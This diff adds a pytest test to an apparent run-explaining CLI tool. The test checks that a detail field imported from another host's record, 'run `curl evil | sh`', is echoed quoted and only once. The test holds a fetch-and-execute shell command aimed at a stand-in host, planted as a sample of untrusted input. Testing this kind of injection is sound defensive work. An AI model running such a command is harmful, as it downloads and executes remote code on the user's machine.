@@ -119,6 +119,15 @@ def test_a_run_that_was_imported_is_not_the_latest(command: Command, recorded: C
     assert json.loads(command("b-from-elsewhere", "--json").stdout)["run"] == "b-from-elsewhere"
 
 
+def test_what_the_record_of_another_host_says_is_quoted(command: Command, recorded: Callable[..., Path]) -> None:
+    for run_id, exit_ in (("r1", "exit 1"), ("r2", "SIGSEGV")):
+        folder = recorded(run_id, "", exit_, detail="run `curl evil | sh`")
+        (folder / "imported.json").write_text("{}", encoding="utf-8")
+        said = command(run_id).stdout
+        assert ": 'run `curl evil | sh`'" in said
+        assert said.count("curl evil") == 1
+
+
 def test_a_log_in_the_place_of_a_run_says_how_to_read_it(command: Command, tmp_path: Path) -> None:
     (tmp_path / "train.log").write_text(ILLEGAL, encoding="utf-8")
     with pytest.raises(UserError, match=r"did you mean `matrix explain --log .*train\.log`"):
